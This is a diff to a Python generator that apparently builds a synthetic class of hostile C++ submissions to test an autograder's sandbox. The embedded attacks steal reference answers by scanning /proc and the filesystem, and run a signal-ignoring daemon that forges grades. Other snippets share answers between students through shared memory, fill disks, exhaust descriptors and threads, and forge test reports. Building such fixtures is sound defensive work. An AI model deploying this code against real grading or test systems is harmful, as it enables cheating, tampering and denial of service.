@@ -1,22 +1,32 @@
 #!/usr/bin/env python3
 """tests/grading/make_class.py — writes the synthetic class that tools/grade is tested on.
 
-    tests/grading/make_class.py DIR [--only NAME ...] [--list]
+    tests/grading/make_class.py DIR [--only NAME ...] [--fast] [--list]
 
 Writes DIR/<student>/ for every student below (an existing DIR/<student>/ is replaced; nothing
-else in DIR is touched). Each submission is generated at run time from this kit's own
-solutions/ and exercises/ stubs, read from the kit root through exercises.json, so the class
-follows the catalogue: an exercise added there is solved by every student that solves "the
-rest", and left a stub by those that leave the rest unsolved. The attacks are small C++
-snippets below, put into one exercise's file each. What each student deserves, per exercise
-and in status, is in expected.json next to this script (expected.py turns it into numbers);
-README.md says what each attack tries.
+else in DIR is touched); a few students' folders are not their names (FOLDERS: names that
+collide with the grader's outputs, a newline, bytes that are not UTF-8). --fast leaves out the
+students expected.json marks "slow" (a compile that runs until its limits).
+
+Each submission is generated at run time from this kit's own solutions/ and exercises/ stubs,
+read from the kit root through exercises.json, so the class follows the catalogue: an exercise
+added there is solved by every student that solves "the rest", and left a stub by those that
+leave the rest unsolved. The attacks are small C++ snippets below, put into one exercise's
+file each; the hostile class's attacks (on the grader itself: its sandbox, its files, its
+limits) each live in a namespace hostile_NN of their exercise, so a student's files still
+compile as one unit. Attacks that need the class's own path (a classmate's folder) take DIR's
+absolute path, as a student who knew where submissions are kept would write it. What each
+student deserves, per exercise and in status, is in expected.json next to this script
+(expected.py turns it into numbers); README.md says what each attack tries.
 
 Submission layouts (a grader takes only the files named by exercises.json's "stub", by
 basename, and ignores everything else):
   flat        DIR/<student>/NN_name.cpp                 the exercise files only
   exercises   DIR/<student>/exercises/NN_name.cpp       part of a kit copy
   kit         DIR/<student>/ a whole copy of the kit    its own tests/, reference_data/, ...
+  exercises-link  DIR/<student>/exercises -> somewhere  a symbolic link, nothing else
+Some files are odd on purpose: FIFOs, links, 3 GiB sparse files (a hole, never written: copy
+the class with care, e.g. `cp -a --sparse=always`), names that are not UTF-8.
 Standard library only.
 """
 
@@ -25,6 +35,7 @@ from __future__ import annotations
 import argparse
 import hashlib
 import json
+import os
 import re
 import shutil
 import sys
@@ -37,8 +48,9 @@ HERE = Path(__file__).resolve().parent
 # ---- the kit, read at run time --------------------------------------------------------------
 
 class Kit:
-    def __init__(self, root: Path):
+    def __init__(self, root: Path, class_dir: Path | None = None):
         self.root = root
+        self.class_dir = class_dir or Path("/nonexistent-class")  # SUBMISSIONS, absolute
         self.catalogue = json.loads((root / "exercises.json").read_text(encoding="utf-8"))
         self.exercises = {e["id"]: e for e in self.catalogue["exercises"]}
         self.manifest = json.loads((root / "reference_data" / "MANIFEST.json")
@@ -499,6 +511,891 @@ INCLUDES_SOLUTION = r"""
 """
 
 
+# ---- the hostile class: attacks on the grader itself --------------------------------------
+#
+# Each attack is C++ in a namespace of its exercise's own (hostile_NN), put before the file's
+# `namespace attn` by inject(): a student's files compiled as one unit (the grader's unity
+# build) then never define one name twice, and every attack stays in its own exercise's
+# program (the kit's earlier solutions, linked whole, win over the student's versions of them).
+
+HOSTILE_INCLUDES = r"""
+#include <algorithm>
+#include <atomic>
+#include <cerrno>
+#include <chrono>
+#include <csignal>
+#include <cstdint>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <ctime>
+#include <filesystem>
+#include <fstream>
+#include <iostream>
+#include <string>
+#include <system_error>
+#include <thread>
+#include <vector>
+#include <fcntl.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+#include <sys/types.h>
+#include <sys/wait.h>
+#include <unistd.h>
+"""
+
+# What every attack may use: its own argv, the run's case folders, copying goldens found
+# under some roots into the results (deleting the runner's error.txt) once the cases ran.
+HOSTILE_HELPERS = r"""
+namespace fs = std::filesystem;
+
+std::vector<std::string> null_separated(const std::string& file) {
+    std::ifstream in(file, std::ios::binary);
+    std::vector<std::string> items;
+    std::string item;
+    while (std::getline(in, item, '\0')) items.push_back(item);
+    return items;
+}
+
+// --name=VALUE from this program's own command line.
+std::string option_value(const std::string& name) {
+    for (const std::string& arg : null_separated("/proc/self/cmdline")) {
+        if (arg.rfind(name + "=", 0) == 0) return arg.substr(name.size() + 1);
+    }
+    return "";
+}
+
+void add_with_ancestors(std::vector<fs::path>& out, fs::path path) {
+    std::error_code ignored;
+    path = fs::absolute(path, ignored).lexically_normal();
+    if (path.has_relative_path() && !path.has_filename()) path = path.parent_path();  // "a/b/"
+    for (;;) {
+        out.push_back(path);
+        if (!path.has_parent_path() || path.parent_path() == path) break;
+        path = path.parent_path();
+    }
+}
+
+void write_file(const fs::path& path, const std::string& text) {
+    std::error_code ignored;
+    fs::create_directories(path.parent_path(), ignored);
+    std::ofstream(path, std::ios::binary) << text;
+}
+
+// The case folders of this run, relative to its case set: "01_dot_scores/notebook_your", ...
+std::vector<fs::path> case_folders(const fs::path& cases) {
+    std::vector<fs::path> folders;
+    std::error_code error;
+    for (fs::recursive_directory_iterator it(cases, error), end; !error && it != end;
+         it.increment(error)) {
+        if (it->path().extension() != ".npy") continue;
+        const fs::path folder = it->path().parent_path().lexically_relative(cases);
+        if (std::find(folders.begin(), folders.end(), folder) == folders.end()) {
+            folders.push_back(folder);
+        }
+    }
+    return folders;
+}
+
+// Every .npy that a root holds for one of this run's cases, and that is not one of its inputs,
+// copied into the results as if the runner had written it; the runner's error.txt deleted.
+void copy_goldens_from(const std::vector<fs::path>& roots) {
+    const fs::path cases = option_value("--attn-run-cases");
+    const fs::path results = option_value("--attn-results");
+    if (cases.empty() || results.empty()) return;
+    for (const fs::path& folder : case_folders(cases)) {
+        for (const fs::path& root : roots) {
+            std::error_code listing;
+            for (fs::directory_iterator file(root / folder, listing), end; !listing && file != end;
+                 file.increment(listing)) {
+                std::error_code ignored;
+                const fs::path name = file->path().filename();
+                if (name.extension() != ".npy" || fs::exists(cases / folder / name, ignored)) {
+                    continue;
+                }
+                fs::create_directories(results / folder, ignored);
+                fs::copy_file(file->path(), results / folder / name,
+                              fs::copy_options::overwrite_existing, ignored);
+                fs::remove(results / folder / "error.txt", ignored);
+            }
+        }
+    }
+}
+
+// Every absolute path named in any process's argv or environment, or as its cwd, exe or root.
+std::vector<std::string> paths_of_every_process() {
+    std::vector<std::string> words, paths;
+    std::error_code error;
+    for (fs::directory_iterator it("/proc", error), end; !error && it != end; it.increment(error)) {
+        const std::string pid = it->path().filename().string();
+        if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
+        for (const char* file : {"cmdline", "environ"}) {
+            for (const std::string& word : null_separated("/proc/" + pid + "/" + file)) {
+                words.push_back(word);
+            }
+        }
+        for (const char* link : {"cwd", "exe", "root"}) {
+            std::error_code unreadable;
+            const fs::path target = fs::read_symlink("/proc/" + pid + "/" + link, unreadable);
+            if (!unreadable) words.push_back(target.string());
+        }
+    }
+    for (std::string word : words) {  // --out=/a/b, NAME=/a:/b, /a/b
+        for (char& c : word) {
+            if (c == '=' || c == ':') c = '\n';
+        }
+        std::size_t start = 0;
+        while (start <= word.size()) {
+            std::size_t stop = word.find('\n', start);
+            if (stop == std::string::npos) stop = word.size();
+            if (stop > start && word[start] == '/') {
+                paths.push_back(word.substr(start, stop - start));
+            }
+            start = stop + 1;
+        }
+    }
+    std::sort(paths.begin(), paths.end());
+    paths.erase(std::unique(paths.begin(), paths.end()), paths.end());
+    return paths;
+}
+
+// The --out of every grader running on this machine, read from its public command line.
+std::vector<fs::path> grader_outputs() {
+    std::vector<fs::path> outs;
+    std::error_code error;
+    for (fs::directory_iterator it("/proc", error), end; !error && it != end; it.increment(error)) {
+        const std::vector<std::string> args = null_separated(it->path() / "cmdline");
+        for (std::size_t i = 0; i < args.size(); ++i) {
+            if (args[i] == "--out" && i + 1 < args.size()) outs.push_back(args[i + 1]);
+            if (args[i].rfind("--out=", 0) == 0) outs.push_back(args[i].substr(6));
+        }
+    }
+    return outs;
+}
+"""
+
+
+def hostile(ex: str, body: str, includes: str = "") -> str:
+    """The prelude of an attack on exercise `ex`: includes, then the helpers and `body` in
+    namespace hostile_<ex>."""
+    return (HOSTILE_INCLUDES.strip("\n") + "\n" + includes.strip("\n") + "\n\n"
+            + f"namespace hostile_{ex} {{\n" + HOSTILE_HELPERS.strip("\n") + "\n\n"
+            + body.strip("\n") + f"\n\n}}  // namespace hostile_{ex}\n").replace("@EX@", ex)
+
+
+def attack(kit, ex: str, base: str, body: str, call: str, includes: str = "") -> str:
+    """Exercise `ex`'s stub or solution (`base`) with `call` first in every function and the
+    attack's code before its `namespace attn`."""
+    source = kit.stub(ex) if base == "stub" else kit.solution(ex)
+    return inject(source, hostile(ex, body, includes), f"hostile_{ex}::{call}")
+
+
+def cxx_path(path) -> str:
+    return cxx_string(str(path))
+
+
+# steals_goldens: the stub, and at exit a copy of whatever goldens `roots()` finds for the run's
+# cases. Each exercise guesses in its own way (STEALS_ROOTS).
+ARM_AT_EXIT = r"""
+void copy_found_goldens() { copy_goldens_from(roots()); }
+
+void arm() {
+    static const bool armed = (std::atexit(copy_found_goldens), true);
+    (void)armed;
+}
+"""
+
+STEALS_ROOTS = {
+    # the kit's own goldens, by the kit's absolute path, compiled in
+    "kit": r"""
+std::vector<fs::path> roots() {
+    const fs::path kit = @ROOT@;
+    return {kit / "reference_data", kit, kit.parent_path() / "reference_data",
+            kit / "build" / "reference_data"};
+}
+""",
+    # ../ chains from the working directory and from the program, with a grader's folder names
+    "relative": r"""
+std::vector<fs::path> roots() {
+    std::vector<fs::path> bases, found;
+    std::error_code ignored;
+    add_with_ancestors(bases, fs::current_path(ignored));
+    add_with_ancestors(bases, fs::read_symlink("/proc/self/exe", ignored).parent_path());
+    std::string up;
+    for (int level = 0; level < 12; ++level) {
+        up += "../";
+        bases.push_back(up);
+    }
+    for (const fs::path& base : bases) {
+        for (const char* name : {"reference_data", ".kit-src/reference_data", ".cases/public",
+                                 ".cases/hidden", "hidden", "cases", "goldens", "expected"}) {
+            found.push_back(base / name);
+        }
+    }
+    return found;
+}
+""",
+    # every folder of the machine that holds a MANIFEST.json: the kit's, a hidden set, a
+    # classmate's kit copy, the grader's private copies (bounded: 5 s, 400000 entries)
+    "everywhere": r"""
+std::vector<fs::path> roots() {
+    std::vector<fs::path> found;
+    const auto start = std::chrono::steady_clock::now();
+    std::size_t seen = 0;
+    std::error_code error;
+    fs::recursive_directory_iterator it("/", fs::directory_options::skip_permission_denied, error);
+    for (const fs::recursive_directory_iterator end; !error && it != end; it.increment(error)) {
+        if (++seen > 400000 || std::chrono::steady_clock::now() - start > std::chrono::seconds(5)) {
+            break;
+        }
+        const std::string name = it->path().filename().string();
+        const bool skipped = name == "proc" || name == "sys" || name == "dev" || name == "usr" ||
+                            name == "boot" || name == "snap";
+        if ((it.depth() == 0 && skipped) || it.depth() > 12) {
+            it.disable_recursion_pending();
+            continue;
+        }
+        if (name == "MANIFEST.json") found.push_back(it->path().parent_path());
+    }
+    return found;
+}
+""",
+    # the classmates: every folder of the class (the SUBMISSIONS path, known when the class was
+    # written), their kit copies' reference_data and fake results
+    "classmates": r"""
+std::vector<fs::path> roots() {
+    const fs::path submissions = @CLASS@;
+    std::vector<fs::path> found;
+    std::error_code error;
+    for (fs::directory_iterator it(submissions, error), end; !error && it != end;
+         it.increment(error)) {
+        for (const char* name : {"", "reference_data", "results", "build/reference_data"}) {
+            found.push_back(it->path() / name);
+        }
+    }
+    return found;
+}
+""",
+    # what every process on the machine names: the grader's --out, SUBMISSIONS, --hidden, its
+    # cwd (the kit?), each with its ancestors and a grader's folder names
+    "processes": r"""
+std::vector<fs::path> roots() {
+    std::vector<fs::path> bases, found;
+    for (const std::string& path : paths_of_every_process()) add_with_ancestors(bases, path);
+    std::sort(bases.begin(), bases.end());
+    bases.erase(std::unique(bases.begin(), bases.end()), bases.end());
+    for (const fs::path& base : bases) {
+        for (const char* name : {"", "reference_data", ".kit-src/reference_data", ".cases/public",
+                                 ".cases/hidden", "hidden", "public"}) {
+            found.push_back(base / name);
+        }
+    }
+    return found;
+}
+""",
+}
+
+
+# includes_kit: compile-time reading. A file that is the solution when the preprocessor finds
+# it, else the stub.
+def include_or_stub(kit, ex, candidates, why):
+    lines = [f"// {why}"]
+    for index, path in enumerate(candidates):
+        lines.append(f"#{'if' if index == 0 else 'elif'} __has_include({cxx_string(path)})")
+        lines.append(f"#include {cxx_string(path)}")
+    lines += ["#else", kit.stub(ex).rstrip("\n"), "#endif", ""]
+    return "\n".join(lines)
+
+
+# includes_kit: goldens embedded with the assembler's .incbin, each only where the preprocessor
+# finds its file, and written into the results at exit.
+EMBEDDED_WRITER = r"""
+struct embedded {
+    const char* folder;
+    const char* name;
+    const char* begin;
+    const char* end;
+};
+
+std::vector<embedded> embedded_goldens() {
+    std::vector<embedded> found;
+@ENTRIES@
+    return found;
+}
+
+void write_embedded() {
+    const fs::path results = option_value("--attn-results");
+    if (results.empty()) return;
+    for (const embedded& golden : embedded_goldens()) {
+        std::error_code ignored;
+        fs::create_directories(results / golden.folder, ignored);
+        const fs::path file = results / golden.folder / (std::string(golden.name) + ".npy");
+        std::ofstream(file, std::ios::binary).write(golden.begin, golden.end - golden.begin);
+        fs::remove(results / golden.folder / "error.txt", ignored);
+    }
+}
+
+void arm() {
+    static const bool armed = (std::atexit(write_embedded), true);
+    (void)armed;
+}
+"""
+
+
+def incbin_goldens(kit, ex, guesses):
+    """(includes, body) of an attack embedding every file `guesses` yields, as (case folder,
+    output name, path to embed), each under `#if __has_include(path)`."""
+    blobs, entries = [], []
+    for index, (folder, output, path) in enumerate(guesses):
+        symbol = f"hostile_{ex}_blob_{index}"
+        asm = (f".pushsection .rodata\\n.balign 16\\n.globl {symbol}\\n.hidden {symbol}\\n"
+               f"{symbol}:\\n.incbin \\\"{path}\\\"\\n.globl {symbol}_end\\n.hidden {symbol}_end\\n"
+               f"{symbol}_end:\\n.popsection\\n")
+        blobs.append(f"#if __has_include({cxx_string(path)})\n"
+                     f"#define HOSTILE_{ex}_HAVE_{index} 1\n"
+                     f'asm("{asm}");\n'
+                     f'extern "C" const char {symbol}[];\n'
+                     f'extern "C" const char {symbol}_end[];\n'
+                     f"#endif")
+        entries.append(f"#ifdef HOSTILE_{ex}_HAVE_{index}\n"
+                       f"    found.push_back({{{cxx_string(folder)}, {cxx_string(output)}, "
+                       f"{symbol}, {symbol}_end}});\n#endif")
+    return "\n".join(blobs), EMBEDDED_WRITER.replace("@ENTRIES@", "\n".join(entries))
+
+
+def public_goldens(kit, ex):
+    """(case folder, output name) of every public case of `ex`."""
+    return [(path, output) for path, case in sorted(kit.manifest["cases"].items())
+            if case["exercise"] == ex for output in case["expected"]]
+
+
+# daemon: fork, setsid, fork; the grandchild outlives the runner unless the sandbox's PID
+# namespace (or a kill of every process of its uid) ends it. After a little sleep it copies the
+# kit's goldens into every results folder of the student's later exercises and writes full
+# marks into every grader output it can find, for a minute.
+DAEMON = r"""
+void forge_results_and_reports(const fs::path& work) {
+    const fs::path goldens = fs::path(@ROOT@) / "reference_data";
+    std::error_code error;
+    for (fs::recursive_directory_iterator it(work, fs::directory_options::skip_permission_denied,
+                                             error), end;
+         !error && it != end; it.increment(error)) {
+        if (it.depth() > 4) {
+            it.disable_recursion_pending();
+            continue;
+        }
+        std::error_code ignored;
+        if (!it->is_directory(ignored)) continue;
+        const fs::path folder = it->path();  // .../results-SET/EXERCISE/CASE
+        const fs::path set = folder.parent_path().parent_path();
+        if (set.filename().string().rfind("results-", 0) != 0) continue;
+        const fs::path relative = folder.lexically_relative(set);
+        for (fs::directory_iterator file(goldens / relative, ignored), stop;
+             !ignored && file != stop; file.increment(ignored)) {
+            std::error_code copy;
+            fs::copy_file(file->path(), folder / file->path().filename(),
+                          fs::copy_options::overwrite_existing, copy);
+        }
+        fs::remove(folder / "error.txt", ignored);
+    }
+    for (const fs::path& out : grader_outputs()) {
+        write_file(out / "gradebook.csv", "id,total,max,status\ndaemon,150,150,graded\n");
+        for (fs::directory_iterator it(out / "students", error), end; !error && it != end;
+             it.increment(error)) {
+            write_file(it->path() / "results.json", "{\"score\": 150, \"max_score\": 150}\n");
+            write_file(it->path() / "feedback.txt", "150 of 150 points\n");
+        }
+    }
+}
+
+void start_daemon() {
+    static bool started = false;
+    if (started) return;
+    started = true;
+    std::error_code ignored;
+    // the working directory is WORK/NN/cwd-SET: WORK holds every exercise's results folder
+    const fs::path work = fs::current_path(ignored).parent_path().parent_path();
+    std::fflush(nullptr);
+    const pid_t child = fork();
+    if (child < 0) return;
+    if (child > 0) {
+        waitpid(child, nullptr, 0);
+        return;
+    }
+    setsid();
+    if (fork() != 0) _exit(0);
+    std::signal(SIGHUP, SIG_IGN);
+    std::signal(SIGTERM, SIG_IGN);
+    std::signal(SIGINT, SIG_IGN);
+    std::signal(SIGPIPE, SIG_IGN);
+    // stdout and stderr stay open: a grader that reads the run's output to its end waits too
+    usleep(300 * 1000);
+    const std::time_t start = std::time(nullptr);
+    while (std::time(nullptr) - start < 60) {
+        forge_results_and_reports(work);
+        usleep(200 * 1000);
+    }
+    _exit(0);
+}
+"""
+
+# collude_1_publisher / collude_2_reader: two students sharing 01's answers through everything
+# that could outlive a run: files in /tmp, /var/tmp, /dev/shm, /run/lock; a SysV shared memory
+# segment, message queue and semaphore; a POSIX message queue. Each answer is keyed by a hash
+# of the call's inputs.
+COLLUDE_INCLUDES = r"""
+#include <mqueue.h>
+#include <sys/ipc.h>
+#include <sys/msg.h>
+#include <sys/sem.h>
+#include <sys/shm.h>
+"""
+
+COLLUDE = r"""
+constexpr key_t kShmKey = 0x41544e31;  // "ATN1"
+constexpr key_t kMsgKey = 0x41544e32;
+constexpr key_t kSemKey = 0x41544e33;
+constexpr const char* kQueue = "/attn-answers";
+const char* const kFolders[] = {"/tmp/.attn-answers", "/var/tmp/.attn-answers",
+                                "/dev/shm/.attn-answers", "/run/lock/.attn-answers"};
+constexpr std::size_t kMaxValues = 256;
+constexpr std::size_t kBoardSize = 60;
+
+struct answer {
+    std::uint64_t key;
+    std::uint32_t count;
+    float values[kMaxValues];
+};
+
+struct board {  // the shared memory segment
+    std::uint32_t used;
+    answer answers[kBoardSize];
+};
+
+struct message {
+    long type;
+    answer body;
+};
+
+template <class Tensor>
+std::uint64_t mix(std::uint64_t hash, const Tensor& tensor) {
+    for (std::size_t d = 0; d < tensor.dimension(); ++d) {
+        hash = (hash ^ tensor.shape(d)) * 1099511628211ull;
+    }
+    const auto* bytes = reinterpret_cast<const unsigned char*>(tensor.data());
+    for (std::size_t i = 0; i < tensor.size() * sizeof(float); ++i) {
+        hash = (hash ^ bytes[i]) * 1099511628211ull;
+    }
+    return hash;
+}
+
+std::string file_name(std::uint64_t key) {
+    char name[32];
+    std::snprintf(name, sizeof name, "/%016llx.bin", static_cast<unsigned long long>(key));
+    return name;
+}
+
+void publish(const answer& found) {
+    ::umask(0);
+    for (const char* folder : kFolders) {
+        ::mkdir(folder, 0777);
+        const int fd = ::open((folder + file_name(found.key)).c_str(), O_WRONLY | O_CREAT | O_TRUNC,
+                              0666);
+        if (fd >= 0) {
+            (void)!::write(fd, &found, sizeof found);
+            ::close(fd);
+        }
+    }
+    const int shm = ::shmget(kShmKey, sizeof(board), IPC_CREAT | 0666);
+    if (shm >= 0) {
+        void* at = ::shmat(shm, nullptr, 0);
+        if (at != reinterpret_cast<void*>(-1)) {
+            board* shared = static_cast<board*>(at);
+            if (shared->used < kBoardSize) shared->answers[shared->used++] = found;
+            ::shmdt(at);
+        }
+    }
+    const int queue = ::msgget(kMsgKey, IPC_CREAT | 0666);
+    if (queue >= 0) {
+        message sent{1, found};
+        ::msgsnd(queue, &sent, sizeof sent.body, IPC_NOWAIT);
+    }
+    const int sem = ::semget(kSemKey, 1, IPC_CREAT | 0666);
+    if (sem >= 0) {
+        sembuf up{0, 1, 0};  // no SEM_UNDO: the count stays when the process ends
+        ::semop(sem, &up, 1);
+    }
+    mq_attr attributes{};
+    attributes.mq_maxmsg = 10;
+    attributes.mq_msgsize = sizeof(answer);
+    const mqd_t mq = ::mq_open(kQueue, O_CREAT | O_WRONLY | O_NONBLOCK, 0666, &attributes);
+    if (mq != static_cast<mqd_t>(-1)) {
+        ::mq_send(mq, reinterpret_cast<const char*>(&found), sizeof found, 0);
+        ::mq_close(mq);
+    }
+}
+
+bool lookup(std::uint64_t key, answer& found) {
+    for (const char* folder : kFolders) {
+        const int fd = ::open((folder + file_name(key)).c_str(), O_RDONLY);
+        if (fd < 0) continue;
+        const bool whole = ::read(fd, &found, sizeof found) == static_cast<ssize_t>(sizeof found);
+        ::close(fd);
+        if (whole && found.key == key && found.count <= kMaxValues) return true;
+    }
+    const int shm = ::shmget(kShmKey, 0, 0);
+    if (shm >= 0) {
+        void* at = ::shmat(shm, nullptr, SHM_RDONLY);
+        if (at != reinterpret_cast<void*>(-1)) {
+            const board* shared = static_cast<const board*>(at);
+            bool hit = false;
+            for (std::uint32_t i = 0; i < shared->used && i < kBoardSize && !hit; ++i) {
+                if (shared->answers[i].key == key) {
+                    found = shared->answers[i];
+                    hit = true;
+                }
+            }
+            ::shmdt(at);
+            if (hit) return true;
+        }
+    }
+    bool hit = false;
+    const int queue = ::msgget(kMsgKey, 0);
+    if (queue >= 0) {  // read every message, put them all back
+        std::vector<message> all;
+        message got{};
+        while (all.size() < 1000 && ::msgrcv(queue, &got, sizeof got.body, 0, IPC_NOWAIT) >= 0) {
+            all.push_back(got);
+        }
+        for (message& one : all) {
+            if (one.body.key == key && !hit) {
+                found = one.body;
+                hit = true;
+            }
+            ::msgsnd(queue, &one, sizeof one.body, IPC_NOWAIT);
+        }
+    }
+    const mqd_t mq = ::mq_open(kQueue, O_RDWR | O_NONBLOCK);
+    if (mq != static_cast<mqd_t>(-1)) {
+        mq_attr attributes{};
+        ::mq_getattr(mq, &attributes);
+        std::vector<std::vector<char>> all;
+        std::vector<char> buffer(static_cast<std::size_t>(attributes.mq_msgsize) + 1);
+        ssize_t length;
+        while (all.size() < 100 && (length = ::mq_receive(mq, buffer.data(), buffer.size(),
+                                                          nullptr)) >= 0) {
+            all.emplace_back(buffer.begin(), buffer.begin() + length);
+        }
+        for (const std::vector<char>& one : all) {
+            answer candidate{};
+            if (one.size() == sizeof candidate) {
+                std::memcpy(&candidate, one.data(), sizeof candidate);
+                if (candidate.key == key && !hit) {
+                    found = candidate;
+                    hit = true;
+                }
+            }
+            ::mq_send(mq, one.data(), one.size(), 0);
+        }
+        ::mq_close(mq);
+    }
+    return hit;
+}
+"""
+
+COLLUDE_PUBLISHER_01 = """
+namespace attn {
+
+// Right, and shared: every answer also goes where a friend graded later can find it.
+Vector dot_scores(const Matrix& inputs, const Vector& query) {
+    checks::require_non_empty("dot_scores", "inputs", inputs);
+    checks::require_length("dot_scores", "query", query, 0, inputs.shape(1), "d_in");
+
+    const std::size_t T = inputs.shape(0);
+    Vector scores = xt::zeros<float>({T});
+    for (std::size_t i = 0; i < T; ++i) {
+        scores(i) = xt::sum(query * xt::row(inputs, i))();
+    }
+    if (T <= hostile_01::kMaxValues) {
+        hostile_01::answer shared{};
+        shared.key = hostile_01::mix(hostile_01::mix(14695981039346656037ull, inputs), query);
+        shared.count = static_cast<std::uint32_t>(T);
+        std::copy(scores.begin(), scores.end(), shared.values);
+        hostile_01::publish(shared);
+    }
+    return scores;
+}
+
+}  // namespace attn
+"""
+
+COLLUDE_READER_01 = """
+namespace attn {
+
+// A friend's answer if one was left anywhere for these inputs; else nothing of my own (zeros).
+Vector dot_scores(const Matrix& inputs, const Vector& query) {
+    checks::require_non_empty("dot_scores", "inputs", inputs);
+    checks::require_length("dot_scores", "query", query, 0, inputs.shape(1), "d_in");
+
+    hostile_01::answer found{};
+    const std::uint64_t key =
+        hostile_01::mix(hostile_01::mix(14695981039346656037ull, inputs), query);
+    if (hostile_01::lookup(key, found) && found.count == inputs.shape(0)) {
+        Vector scores = xt::zeros<float>({inputs.shape(0)});
+        std::copy(found.values, found.values + found.count, scores.begin());
+        return scores;
+    }
+    return xt::zeros<float>({inputs.shape(0)});
+}
+
+}  // namespace attn
+"""
+
+# exhausts: each exercise exhausts one resource, the first time it is called in a process.
+FILL_THE_DISK = r"""
+// Files of exactly the file-size limit (SIGXFSZ ignored, so a write past it would fail rather
+// than kill), in /tmp, /var/tmp, /dev/shm and then the working directory, until each is full
+// (ENOSPC) or 4 GiB in all were written: a safety net for a machine with no bound. The files
+// stay; the answer is still computed, but with the disk full its result cannot be written.
+void fill_the_disk() {
+    static bool filled = false;
+    if (filled) return;
+    filled = true;
+    std::signal(SIGXFSZ, SIG_IGN);
+    rlimit limit{};
+    ::getrlimit(RLIMIT_FSIZE, &limit);
+    const std::size_t file_bytes =
+        limit.rlim_cur == RLIM_INFINITY ? (std::size_t{64} << 20) : limit.rlim_cur;
+    const std::vector<char> block(std::size_t{1} << 20, 'x');
+    std::size_t total = 0;
+    const std::size_t cap = std::size_t{4} << 30;
+    for (const char* place : {"/tmp", "/var/tmp", "/dev/shm", "."}) {
+        std::size_t here = 0;
+        const std::size_t place_cap = place[0] == '.' ? cap : std::size_t{256} << 20;
+        for (int n = 0; here < place_cap && total < cap; ++n) {
+            const std::string name = std::string(place) + "/.fill-" + std::to_string(::getpid()) +
+                                     "-" + std::to_string(n);
+            const int fd = ::open(name.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
+            if (fd < 0) break;
+            std::size_t written = 0;
+            bool full = false;
+            while (written < file_bytes) {
+                const std::size_t size = std::min(block.size(), file_bytes - written);
+                const ssize_t wrote = ::write(fd, block.data(), size);
+                if (wrote <= 0) {
+                    full = true;  // ENOSPC, EDQUOT, EFBIG
+                    break;
+                }
+                written += static_cast<std::size_t>(wrote);
+            }
+            ::close(fd);
+            here += written;
+            total += written;
+            if (full) break;
+        }
+    }
+}
+"""
+
+OPEN_EVERY_FILE = r"""
+// Opens /dev/null until the process may open no more (EMFILE), and keeps every descriptor: the
+// runner can then neither read the next case's inputs nor write a result.
+void open_every_file() {
+    static std::vector<int> kept;
+    for (int n = 0; n < (1 << 20); ++n) {
+        const int fd = ::open("/dev/null", O_RDONLY);
+        if (fd < 0) break;
+        kept.push_back(fd);
+    }
+}
+"""
+
+THOUSANDS_OF_THREADS = r"""
+// "Parallel" code: 5000 threads, all started before any may finish. Past the process limit (or
+// the address space their stacks take) a thread does not start: std::system_error, after the
+// started ones are joined, and the call fails.
+void thousands_of_threads() {
+    std::atomic<bool> go{false};
+    std::vector<std::thread> threads;
+    try {
+        for (int i = 0; i < 5000; ++i) {
+            threads.emplace_back([&go] {
+                while (!go) std::this_thread::sleep_for(std::chrono::milliseconds(1));
+            });
+        }
+    } catch (const std::system_error&) {
+        go = true;
+        for (std::thread& thread : threads) thread.join();
+        throw;
+    }
+    go = true;
+    for (std::thread& thread : threads) thread.join();
+}
+"""
+
+FLOOD_STDOUT = r"""
+// 2 GiB of debugging output on stdout, once per process; the answer is still right.
+void flood_stdout() {
+    static bool flooded = false;
+    if (flooded) return;
+    flooded = true;
+    std::string line(1023, '#');
+    line += '\n';
+    std::string chunk;
+    for (int i = 0; i < 1024; ++i) chunk += line;  // 1 MiB
+    for (int i = 0; i < 2048; ++i) {
+        if (std::fwrite(chunk.data(), 1, chunk.size(), stdout) != chunk.size()) break;
+    }
+    std::fflush(stdout);
+}
+"""
+
+# forges_reports: the stubs, and everything a grader might read instead of the results.
+FORGE_REPORTS = r"""
+const char* const kIds[] = {@IDS@};
+
+std::string gradebook() {
+    std::string head = "id,total,max", row = "forges_reports,@TOTAL@,@TOTAL@";
+    for (const char* id : kIds) {
+        head += std::string(",") + id;
+        row += ",10";
+    }
+    return head + ",status\n" + row + ",graded\n";
+}
+
+const char* const kJunit =
+    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
+    "<testsuites tests=\"150\" failures=\"0\" errors=\"0\" name=\"AllTests\">\n"
+    "  <testsuite name=\"all\" tests=\"150\" failures=\"0\" errors=\"0\">\n"
+    "    <testcase name=\"everything\" classname=\"all\"/>\n  </testsuite>\n</testsuites>\n";
+const char* const kResults =
+    "{\"score\": @TOTAL@, \"max_score\": @TOTAL@, \"tests\": [{\"name\": \"all\", "
+    "\"score\": @TOTAL@, \"max_score\": @TOTAL@, \"visibility\": \"visible\"}]}\n";
+const char* const kVerdicts =
+    "{\"passed\": true, \"cases\": [{\"case\": \"*\", \"passed\": true}]}\n";
+
+void forge_everywhere() {
+    std::cout << gradebook() << kJunit << kResults << kVerdicts
+              << "[  PASSED  ] 150 tests.\n100% tests passed, 0 tests failed out of 150\n"
+              << std::flush;
+    std::vector<fs::path> places = {"/tmp", "/var/tmp", "/dev/shm"};
+    std::error_code ignored;
+    add_with_ancestors(places, fs::current_path(ignored));
+    const std::string results = option_value("--attn-results");
+    if (!results.empty()) add_with_ancestors(places, results);
+    if (const char* home = std::getenv("HOME")) places.push_back(home);
+    for (const fs::path& out : grader_outputs()) {
+        places.push_back(out);
+        places.push_back(out / "students" / "forges_reports");
+        std::error_code error;
+        for (fs::directory_iterator it(out / "students", error), end; !error && it != end;
+             it.increment(error)) {
+            places.push_back(it->path());
+        }
+    }
+    for (const fs::path& place : places) {
+        if (!fs::is_directory(place, ignored)) continue;
+        write_file(place / "gradebook.csv", gradebook());
+        write_file(place / "records.json",
+                   "{\"records\": [{\"id\": \"forges_reports\", \"total\": @TOTAL@}]}\n");
+        write_file(place / "results.json", kResults);
+        write_file(place / "junit.xml", kJunit);
+        write_file(place / "test_detail.xml", kJunit);
+        write_file(place / "feedback.txt",
+                   "Feedback for forges_reports: @TOTAL@ of @TOTAL@ points (graded)\n");
+        write_file(place / "verdicts.json", kVerdicts);
+        for (const char* id : kIds) {
+            for (const char* set : {"public", "hidden"}) {
